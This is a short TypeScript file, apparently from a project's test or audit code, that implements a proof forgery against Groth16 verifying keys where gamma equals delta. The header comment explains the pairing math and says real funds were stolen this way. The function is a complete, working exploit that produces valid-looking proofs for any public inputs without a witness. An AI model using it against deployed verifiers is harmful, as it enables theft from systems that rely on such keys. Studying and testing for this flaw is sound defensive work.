/**
 * The forgery against Groth16 keys with gamma = delta (real funds were stolen by it).
 *
 * The verifier checks e(A, B) = e(alpha, beta) e(I, gamma) e(C, delta) with I the public inputs' point. If
 * gamma = delta, the last two are e(I + C, gamma), and A = alpha, B = beta, C = -I satisfies it - for any
 * public inputs, without knowing a witness or even the circuit.
 */
import { bn254 } from "@noble/curves/bn254.js";
import type { Groth16Point1, Groth16Proof } from "snarkjs";
import { parseG1, type VerifyingKey } from "../../prover/keys/verifying-key.ts";

/** A proof of any public signals that verifies under a key with gamma = delta (and only there). */
export function forgeGammaEqualsDelta(vkey: VerifyingKey, publicSignals: readonly bigint[]): Groth16Proof {
  const { Point } = bn254.G1;
  let inputs = parseG1(vkey.IC[0] as Groth16Point1, "IC[0]");
  for (const [i, signal] of publicSignals.entries()) {
    const scalar = Point.Fn.create(signal);
    if (scalar !== 0n) inputs = inputs.add(parseG1(vkey.IC[i + 1] as Groth16Point1, "IC").multiply(scalar));
  }
  const { x, y } = inputs.negate().toAffine();
  return {
    pi_a: vkey.vk_alpha_1,
    pi_b: vkey.vk_beta_2,
    pi_c: [String(x), String(y), "1"],
    protocol: "groth16",
    curve: "bn128",
  };
}
